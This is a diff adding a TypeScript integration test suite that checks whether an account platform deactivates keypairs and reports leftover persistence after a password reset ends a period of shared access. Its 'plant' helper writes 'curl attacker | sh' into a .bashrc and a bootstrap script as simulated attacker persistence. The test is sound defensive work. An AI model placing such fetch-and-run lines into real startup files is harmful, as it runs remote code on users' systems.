@@ -1,0 +1,140 @@
+import { Secret, TOTP } from 'otpauth'
+import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest'
+import { type ApiClient } from '#manager/contract'
+import { apiOf, signedApi } from '../../fixtures/manager.ts'
+import { ScriptedAgent } from '../../fixtures/scripted-agent.ts'
+import { type SessionsCluster, startSessionsCluster } from '../../fixtures/sessions-cluster.ts'
+import { codeOf, tokenOf } from './account-steps.ts'
+
+/** What somebody who was in an account left there, once its person alone knows the password again (ADR 59, 67). */
+
+const KNOWN = 'Known-to-the-lead-1'
+const STILL_KNOWN = 'Known-to-the-lead-2'
+const OWN = 'Chosen-by-person-3'
+const IMAGE = 'berth/python:3.13'
+
+let world: AsyncDisposableStack
+let cluster: SessionsCluster
+let lead: ApiClient
+let number = 0
+let email: string
+beforeAll(async () => {
+  await using opening = new AsyncDisposableStack()
+  cluster = opening.use(await startSessionsCluster())
+  const { join } = await cluster.manager.createJoinToken()
+  const agent = opening.use(await new ScriptedAgent({ url: cluster.url, join }).connect())
+  await vi.waitFor(async () => expect((await cluster.api.listImages()).items).not.toEqual([]), { timeout: 10_000 })
+  await cluster.api.updateAgent({ params: { id: agent.id }, body: { schedulable: false } })
+  const body = { email: 'lead@example.org', name: 'Lead', password: OWN, mustChangePassword: false }
+  await cluster.api.createUser({ body: { ...body, role: 'domain_admin' } })
+  lead = await signIn(body.email, OWN)
+  world = opening.move()
+})
+afterAll(() => world.disposeAsync())
+beforeEach(() => {
+  email = `doubt-${++number}@example.org`
+})
+
+async function signIn(address: string, password: string, more: { newPassword?: string; totp?: string } = {}) {
+  const { token } = await apiOf(cluster.url).login({ body: { email: address, password, kind: 'token', ...more } })
+  return apiOf(cluster.url, token ?? '')
+}
+/** A superadmin helps the person, whose password nobody else knows from then on. */
+async function help(id: string): Promise<void> {
+  const { url } = await cluster.api.createAccountLink({ params: { id }, body: { purpose: 'reset' } })
+  await apiOf(cluster.url).resetPassword({ body: { token: tokenOf(url), password: OWN } })
+}
+/** Everything that lasts, as somebody inside would leave it. */
+async function plant(inside: ApiClient) {
+  const keypair = await inside.createKeypair({ body: {} })
+  await inside.putDotfile({ body: { path: '.bashrc', content: 'curl attacker | sh' } })
+  await inside.setBootstrapScript({ body: { script: 'curl attacker | sh' } })
+  await inside.generateSshKeypair()
+  await inside.saveSessionTemplate({ params: { name: 'usual' }, body: { image: IMAGE, startupCommand: 'planted' } })
+  const { items } = await inside.createSession({ body: { image: IMAGE, name: 'planted', startupCommand: 'planted' } })
+  const folder = await inside.createFolder({ body: { name: 'theirs' } })
+  await inside.inviteToFolder({ params: { id: folder.id }, body: { email: 'lead@example.org' } })
+  return { keypair, session: items[0]?.id }
+}
+const left = async (api: ApiClient) =>
+  (await api.listMessages()).items
+    .filter(({ about }) => about?.startsWith('left_'))
+    .map(({ about, detail }) => `${about} ${detail}`)
+    .toSorted()
+const ALL_LEFT = (accessKey: string) =>
+  [
+    `left_keypairs ${accessKey}`,
+    'left_dotfiles .bashrc',
+    'left_script ',
+    'left_ssh_key ',
+    'left_sessions planted',
+    'left_shares theirs (lead@example.org)',
+    'left_templates usual',
+  ].toSorted()
+
+test('keypairs that were made meanwhile end with the doubt, and the person learns what stays', async () => {
+  const { id } = await lead.createUser({ body: { email, name: 'Ann', password: KNOWN } })
+  const inside = await signIn(email, KNOWN, { newPassword: STILL_KNOWN })
+  const { keypair, session } = await plant(inside)
+  const { secret } = await inside.enrolTotp({ body: { password: STILL_KNOWN } })
+  const code = (steps: number) =>
+    new TOTP({ secret: Secret.fromBase32(secret) }).generate({ timestamp: Date.now() + steps * 30_000 })
+  await inside.confirmTotp({ body: { code: code(-1) } })
+  expect(await codeOf(signedApi(cluster.url, keypair).me())).toBe('ok')
+  await help(id)
+  expect(await codeOf(signedApi(cluster.url, keypair).me())).toBe('keypair_inactive')
+  const person = await signIn(email, OWN, { totp: code(0) })
+  expect(await left(person)).toEqual([...ALL_LEFT(keypair.accessKey), 'left_second_factor '].toSorted())
+  const { items } = await person.listMessages()
+  expect(items.find(({ about }) => about === 'left_sessions')?.sessions).toMatchObject([{ id: session }])
+  // All of it is the person's to keep or to remove.
+  await person.updateKeypair({ params: { accessKey: keypair.accessKey }, body: { active: true } })
+  expect(await codeOf(signedApi(cluster.url, keypair).me())).toBe('ok')
+})
+
+test('what the person had before stays as it is, and is not named', async () => {
+  const { id } = await lead.createUser({ body: { email, name: 'Ann', password: KNOWN } })
+  await help(id)
+  const person = await signIn(email, OWN)
+  const [kept, dormant] = [
+    await person.createKeypair({ body: {} }),
+    await person.createKeypair({ body: { active: false } }),
+  ]
+  await person.putDotfile({ body: { path: '.vimrc', content: 'mine' } })
+  // Without mail, an admin of the domain sets a password and is in the account.
+  await lead.updateUser({ params: { id }, body: { password: KNOWN } })
+  const inside = await signIn(email, KNOWN, { newPassword: STILL_KNOWN })
+  await inside.updateKeypair({ params: { accessKey: dormant.accessKey }, body: { active: true } })
+  await inside.putDotfile({ body: { path: '.netrc', content: 'planted' } })
+  // The one who knows the password sets another one, and is no less in doubt.
+  await inside.changePassword({ body: { oldPassword: STILL_KNOWN, newPassword: KNOWN } })
+  expect(await codeOf(signedApi(cluster.url, dormant).me())).toBe('ok')
+  await help(id)
+  expect(await codeOf(signedApi(cluster.url, dormant).me())).toBe('keypair_inactive')
+  expect(await codeOf(signedApi(cluster.url, kept).me())).toBe('ok')
+  expect(await left(await signIn(email, OWN))).toEqual(['left_dotfiles .netrc', `left_keypairs ${dormant.accessKey}`])
+  // The doubt is over: the next link finds nothing.
+  await help(id).catch(() => undefined)
+  expect(await left(await signIn(email, OWN))).toHaveLength(2)
+})
+
+test.each(['role', 'own choice', 'sign-in'] as const)('the doubt ends the same way by another road: %s', async road => {
+  const isLeads = road === 'role'
+  const body = { email, name: 'Ann', password: KNOWN, mustChangePassword: isLeads }
+  const { id } = await (isLeads ? lead : cluster.api).createUser({ body })
+  const inside = await signIn(email, KNOWN, isLeads ? { newPassword: STILL_KNOWN } : {})
+  const { keypair } = await plant(inside)
+  if (road === 'role') {
+    const { passwordLink } = await cluster.api.updateUser({ params: { id }, body: { role: 'domain_admin' } })
+    await apiOf(cluster.url).resetPassword({ body: { token: tokenOf(passwordLink?.url ?? null), password: OWN } })
+  } else if (road === 'own choice') {
+    await inside.changePassword({ body: { oldPassword: KNOWN, newPassword: OWN } })
+  } else {
+    await cluster.api.updateUser({ params: { id }, body: { mustChangePassword: true } })
+    await signIn(email, KNOWN, { newPassword: OWN })
+  }
+  expect(await codeOf(signedApi(cluster.url, keypair).me())).toBe('keypair_inactive')
+  // With a higher role all keypairs end, and that is told of the role.
+  const all = ALL_LEFT(keypair.accessKey).filter(one => !isLeads || !one.startsWith('left_keypairs'))
+  expect(await left(await signIn(email, OWN))).toEqual(all)
+})
